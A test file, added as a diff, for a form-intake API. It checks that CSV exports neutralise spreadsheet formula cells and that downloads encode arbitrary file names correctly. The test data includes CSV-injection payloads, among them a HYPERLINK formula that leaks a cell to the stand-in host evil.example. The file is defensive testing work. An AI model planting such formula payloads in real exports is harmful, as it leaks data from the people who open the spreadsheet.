@@ -1,0 +1,95 @@
+/**
+ * What leaves the server as a file (issue 9 items 7 and 11): the CSV export neutralises cells a
+ * spreadsheet would run as formulas, and file downloads name any stored file name (RFC 6266 /
+ * RFC 8187 `filename*`) instead of failing with 500.
+ */
+import { afterAll, beforeAll, expect, test } from "bun:test";
+import { parse } from "csv-parse/sync";
+import { parse as parseDisposition } from "content-disposition";
+import { createTestApi, type TestApi } from "../../../test/helpers/api.ts";
+
+let api: TestApi;
+let link: any;
+const base = () => `/api/v1/intake/${api.ws.workspace_slug}/${link.slug}`;
+
+/** A 1×1 PNG and a minimal PDF: real bytes, whatever the intake checks. */
+const PNG = Uint8Array.from(atob("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="), (c) => c.charCodeAt(0));
+const PDF = new TextEncoder().encode("%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n");
+
+beforeAll(async () => {
+  api = await createTestApi();
+  link = (
+    await api.call("POST", "/api/v1/links/", {
+      body: {
+        name: "Formulas",
+        questions: [
+          { prompt: "Comment", type: "text" },
+          { prompt: "Score", type: "number" },
+          { prompt: "Attachment", type: "file_upload", configuration: { allowed_types: ["image/png", "application/pdf"] } },
+        ],
+      },
+    })
+  ).json;
+});
+afterAll(() => api.close());
+
+/** A respondent's session with a comment, a score and (optionally) an uploaded file. */
+async function respond(comment: string, score: number | null, file?: { name: string; bytes: Uint8Array; type: string }): Promise<string> {
+  const sid = (await api.call("POST", `${base()}/sessions/`, { key: null, body: {} })).json.session_id;
+  expect((await api.call("PUT", `${base()}/sessions/${sid}/answers/${link.questions[0].uuid}/`, { key: null, body: { value: comment } })).status).toBe(200);
+  if (score !== null) expect((await api.call("PUT", `${base()}/sessions/${sid}/answers/${link.questions[1].uuid}/`, { key: null, body: { value: score } })).status).toBe(200);
+  if (file) {
+    const form = new FormData();
+    form.append("file", new Blob([file.bytes as Uint8Array<ArrayBuffer>], { type: file.type }), file.name);
+    const up = await api.app.handle(new Request(`http://localhost${base()}/sessions/${sid}/answers/${link.questions[2].uuid}/file/`, { method: "POST", body: form }));
+    expect([file.name, up.status]).toEqual([file.name, 200]);
+  }
+  return sid;
+}
+
+test("CSV export neutralises formula cells, file names included; numbers stay numbers", async () => {
+  const hostile = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "@SUM(A1:A9)", "+1+1", "-2+3", "\t=1+1", "\r=1+1", "＝1+1"];
+  const sids: string[] = [];
+  for (const [i, text] of hostile.entries()) sids.push(await respond(text, i === 0 ? -3 : null, i === 0 ? { name: "=1+2.png", bytes: PNG, type: "image/png" } : undefined));
+  sids.push(await respond("plain words", 7));
+
+  const res = await api.app.handle(new Request(`http://localhost/api/v1/links/${link.uuid}/responses/export/?format=csv`, { headers: { authorization: `Bearer ${api.ws.api_key}` } }));
+  expect(res.status).toBe(200);
+  const rows = parse(await res.text(), { relax_column_count: false }) as string[][];
+  const [header, ...body] = rows;
+  const col = (name: string) => header!.indexOf(name);
+  const bySession = new Map(body.map((r) => [r[col("session_id")]!, r]));
+  const [comment, score, attachment] = link.questions.map((q: any) => col(q.field_key));
+
+  for (const [i, text] of hostile.entries()) {
+    // The intake may trim surrounding whitespace; whatever it stored is prefixed with "'".
+    const cell = bySession.get(sids[i]!)![comment]!;
+    expect([text, cell.startsWith("'")]).toEqual([text, true]);
+    expect(cell.slice(1).trim()).toBe(text.trim());
+  }
+  expect(bySession.get(sids[0]!)![attachment]).toBe("'=1+2.png");
+  expect(bySession.get(sids[0]!)![score]).toBe("-3");
+  expect(bySession.get(sids.at(-1)!)![comment]).toBe("plain words");
+  expect(bySession.get(sids.at(-1)!)![score]).toBe("7");
+  // No cell of any row starts with a formula character.
+  for (const r of body) for (const c of r) if (c !== "-3") expect(/^[=+\-@\t\r＝＋－＠]/.test(c)).toBe(false);
+});
+
+test("file downloads carry any stored file name via filename*, with an ASCII fallback", async () => {
+  const names = ["文件.pdf", "Report — final.pdf", "🎉 party.png", 'back\\slash; semi, comma.pdf', "=1+2.png"];
+  for (const name of names) {
+    const isPng = name.endsWith(".png");
+    const sid = await respond("with a file", null, { name, bytes: isPng ? PNG : PDF, type: isPng ? "image/png" : "application/pdf" });
+    const rec = (await api.call("GET", `/api/v1/links/${link.uuid}/responses/?status=all&page_size=100`)).json.results.find((r: any) => r.session_id === sid);
+    const file = rec.answers.find((a: any) => a.response_type === "file_upload").file;
+    expect(file.name).toBe(name);
+    const res = await api.app.handle(new Request(file.url, { headers: { authorization: `Bearer ${api.ws.api_key}` } }));
+    expect([name, res.status]).toEqual([name, 200]);
+    const header = res.headers.get("content-disposition")!;
+    expect(/^[\x20-\x7e]+$/.test(header)).toBe(true);
+    const parsed = parseDisposition(header);
+    expect(parsed.type).toBe("attachment");
+    expect(parsed.parameters.filename).toBe(name);
+    expect(new Uint8Array(await res.arrayBuffer())).toEqual(isPng ? PNG : PDF);
+  }
+});
